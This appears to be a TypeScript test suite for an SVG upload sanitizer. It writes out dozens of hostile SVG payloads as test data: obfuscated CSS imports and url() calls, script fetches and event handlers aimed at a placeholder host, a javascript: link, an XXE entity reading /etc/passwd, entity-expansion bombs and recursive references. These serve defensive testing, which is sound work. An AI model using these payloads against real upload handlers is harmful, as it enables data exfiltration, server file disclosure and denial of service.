import { SaxesParser } from 'saxes'
import { refusal, startTestLake, type TestLake } from './support/test-lake'

let lake: TestLake
beforeAll(async () => {
  lake = await startTestLake()
})
afterAll(() => lake.stop())

const start = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
const svg = (inside: string, before = '') => Buffer.from(`${before}${start}${inside}<path d="M0 0h9v9z"/></svg>`)

/** Uploads a drawing and reads what is given back as strictly as XML can be read. */
async function stored(drawing: Buffer) {
  const asset = await lake.client('editor').assets.upload('image', drawing)
  const text = await (await fetch(lake.url + asset.url.replace(lake.url, ''))).text()
  const elements: { name: string; attributes: Record<string, string> }[] = []
  const styles: string[] = []
  const parser = new SaxesParser({ xmlns: false })
  let isStyle = false
  parser.on('opentag', ({ name, attributes }) => {
    elements.push({ name, attributes })
    isStyle = name === 'style'
    if (isStyle) styles.push('')
  })
  const add = (piece: string) => {
    if (isStyle) styles.push((styles.pop() ?? '') + piece)
  }
  parser.on('text', add)
  parser.on('cdata', add)
  parser.on('closetag', () => (isStyle = false))
  parser.on('error', (error) => {
    throw error
  })
  parser.write(text).close()
  return { text, elements, styles: styles.join('\n') }
}

const evil = 'https://evil.test/x'
test.each<[string, string, string?]>([
  ['an import', `<style>@import url(${evil});</style>`],
  ['an import with a letter as a number', `<style>@im&#112;ort "${evil}";</style>`],
  ['with a hexadecimal number', `<style>&#x40;import "${evil}";</style>`],
  ['with an entity of its own', `<style>&at;import "${evil}";</style>`, '<!DOCTYPE svg [<!ENTITY at "@">]>'],
  ['in pieces of CDATA', `<style>@im<![CDATA[port "${evil}";]]></style>`],
  ['around a comment of XML', `<style>@im<!-- -->port "${evil}";</style>`],
  ['around a processing instruction', `<style>@im<?x y?>port "${evil}";</style>`],
  ['around an element', `<style>@im<g/>port "${evil}";</style>`],
  ['after an element', `<style><g></g>@import "${evil}";</style>`],
  ['around a comment of CSS', `<style>@import/**/"${evil}";</style>`],
  ['in letters that CSS spells', `<style>\\40 import "${evil}"; .a{fill:\\75 rl(${evil})}</style>`],
  ['after a comment that never ends', `<style>/* */@import "${evil}"; /*</style>`],
  ['a font', `<style>@font-face{font-family:x;src:url(${evil})} .a{fill:red}</style>`],
  ['a rule with rules in it', `<style>@media all{.a{fill:url(${evil})}} .b{fill:red}</style>`],
  ['a url in pieces', `<style>.a{fill:u<!-- -->rl(${evil})}</style>`],
  ['a url with space and quotes', `<style>.a{fill:URL( \n "${evil}")}</style>`],
  ['a set of images', `<style>.a{background:image-set("${evil}" 1x)}</style>`],
  ['two style sheets that are one to nobody', `<style>@im</style><style>port "${evil}";</style>`],
  ['an attribute', `<g fill="url(${evil})"/>`],
  ['an attribute in letters that CSS spells', `<g style="fill:u\\72l(${evil})"/>`],
  ['an attribute with a number for a letter', `<g style="fill:ur&#108;(${evil})"/>`],
  ['an attribute around a comment', `<g style="fill:url(/**/${evil})"/>`],
  ['an attribute with a function around a comment', `<g style="width:exp/**/ression(fetch('${evil}'))"/>`],
  ['a link', `<a href="${evil}"><g/></a>`],
  ['a use of elsewhere', `<use href="${evil}#a"/><use xlink:href=" ${evil}#a"/>`],
  ['a use of a script', `<use href="java&#10;script:alert('${evil}')"/>`],
  ['a use of data', `<use href="data:image/svg+xml,${evil}"/>`],
  ['a script', `<script href="${evil}">fetch("${evil}")</script>`],
  ['a script by another name', `<x:script xmlns:x="http://www.w3.org/2000/svg">fetch("${evil}")</x:script>`],
  ['a script of HTML', `<script xmlns="http://www.w3.org/1999/xhtml">fetch("${evil}")</script>`],
  ['a page', `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/></foreignObject>`],
  ['a page behind a switch', `<switch><foreignObject><style>@import "${evil}"</style></foreignObject></switch>`],
  ['another namespace', `<g xmlns="${evil}"/><g xmlns:xlink="${evil}"/>`],
  ['a base', `<g xml:base="${evil}"><use href="#a"/></g>`],
  ['a handler', `<g onload="fetch('${evil}')" ONCLICK="fetch('${evil}')"/>`],
  ['an animation', `<set attributeName="href" to="${evil}"/><animate attributeName="href" values="${evil}"/>`],
  ['a style sheet beside it', '', `<?xml-stylesheet href="${evil}"?>`],
])('of a drawing with %s nothing reaches out', async (_name, inside, ...[before]) => {
  const { text, elements, styles } = await stored(svg(inside, before))
  expect(text).not.toMatch(/evil\.test|<!|<\?|&at;/)
  expect(styles).not.toMatch(/[@\\]|url\(|image-set/i)
  for (const { name, attributes } of elements) {
    expect(name).toMatch(/^(?:svg|g|use|path|style)$/)
    for (const attribute of Object.keys(attributes)) expect(attribute).not.toMatch(/^on|base$/i)
  }
  expect(elements.at(-1)).toEqual({ name: 'path', attributes: { d: 'M0 0h9v9z' } })
})

test('what draws stays: style sheets without the rest, references within the drawing', async () => {
  const inside = `<style>@charset "utf-8"; /* by somebody */ .a{fill:#c0392b} .b > g{filter:url('#f')}</style>
    <filter id="f"><feGaussianBlur stdDeviation="2"/></filter>
    <g class="a" id="Layer_(1)" style="mask:url(#m);stroke-width:2"><use href="#p"/></g><text>a &amp; b &lt; c</text>`
  const { text, styles } = await stored(svg(inside))
  expect(styles.trim()).toBe(".a{fill:#c0392b} .b > g{filter:url('#f')}")
  for (const part of ['id="Layer_(1)"', 'style="mask:url(#m);stroke-width:2"', 'href="#p"', 'a &amp; b &lt; c'])
    expect(text).toContain(part)
  expect(text).not.toContain('somebody')
})

test.each([
  ['in one piece', '.a{fill:#c0392b} .b > g{opacity:0.5}'],
  ['with codes for letters', '.a{fill:&#35;c0392b} .b &gt; g{opacity:0.5}'],
  ['in CDATA, in part', '.a{fill:<![CDATA[#c0392b} .b > g{]]>opacity:0.5}'],
  ['around a comment of XML', '.a{fill:#c0<!-- by somebody -->392b} .b > g{opac<!-- -->ity:0.5}'],
])('a style sheet is read as a whole: %s', async (_name, css) => {
  const { styles } = await stored(svg(`<style>${css}</style><g class="a"/>`))
  expect(styles).toBe('.a{fill:#c0392b} .b > g{opacity:0.5}')
})

const levels = (count: number, level: (number: number) => string) =>
  Array.from({ length: count }, (_, number) => level(number + 1)).join('')

test.each([
  [
    'groups that use groups',
    `<path id="a0" d="M0 0h9v9z"/>${levels(9, (n) => `<g id="a${n}">${`<use href="#a${n - 1}"/>`.repeat(10)}</g>`)}`,
  ],
  [
    'masks within masks',
    levels(12, (n) => `<mask id="m${n}">${`<g mask="url(#m${n - 1})"><path d="M0 0h9"/></g>`.repeat(4)}</mask>`),
  ],
  [
    'masks by a style sheet',
    `<style>${levels(12, (n) => `.m${n}{mask:url(#m${n - 1})}`)}</style>${levels(12, (n) => `<mask id="m${n}">${`<g class="m${n}"><path d="M0 0h9"/></g>`.repeat(4)}</mask>`)}`,
  ],
  [
    'patterns within patterns',
    levels(8, (n) => `<pattern id="p${n}">${`<rect fill="url(#p${n - 1})"/>`.repeat(10)}</pattern>`),
  ],
  ['a chain without end', levels(2_000, (n) => `<g id="c${n}"><use href="#c${n - 1}"/></g>`)],
])('%s are refused before anybody draws them', async (_name, inside) => {
  const refused = await refusal(lake.client('editor').assets.upload('image', svg(inside)))
  expect(refused).toMatchObject({ statusCode: 400, message: expect.stringContaining('repeats its parts') })
})

test.each([
  [
    'entities within entities',
    svg(
      '<text>&a9;</text>',
      `<!DOCTYPE svg [<!ENTITY a0 "aaaaaaaaaa">${levels(9, (n) => `<!ENTITY a${n} "${`&a${n - 1};`.repeat(10)}">`)}]>`,
    ),
  ],
  ['a file of the server', svg('<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
  ['a hundred thousand levels', svg('<g>'.repeat(100_000) + '</g>'.repeat(100_000))],
  [
    'a canvas of a square kilometre',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="2000000" height="2000000"/>'),
  ],
])('%s are refused', async (_name, drawing) => {
  expect((await refusal(lake.client('editor').assets.upload('image', drawing))).statusCode).toBe(400)
})

test('a drawing that takes for ever to open is given up, with what to do', async () => {
  const short = await startTestLake({ images: { cleaningTime: 300 } })
  const slow = `<filter id="f" x="0" y="0" width="1" height="1">${'<feGaussianBlur stdDeviation="90"/>'.repeat(4_000)}</filter><rect width="9000" height="9000" filter="url(#f)"/>`
  const drawing = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="9000">${slow.repeat(3)}</svg>`,
  )
  const refused = await refusal(short.client('editor').assets.upload('image', drawing))
  await short.stop()
  expect(refused).toMatchObject({ statusCode: 400, message: expect.stringContaining('upload it again') })
})
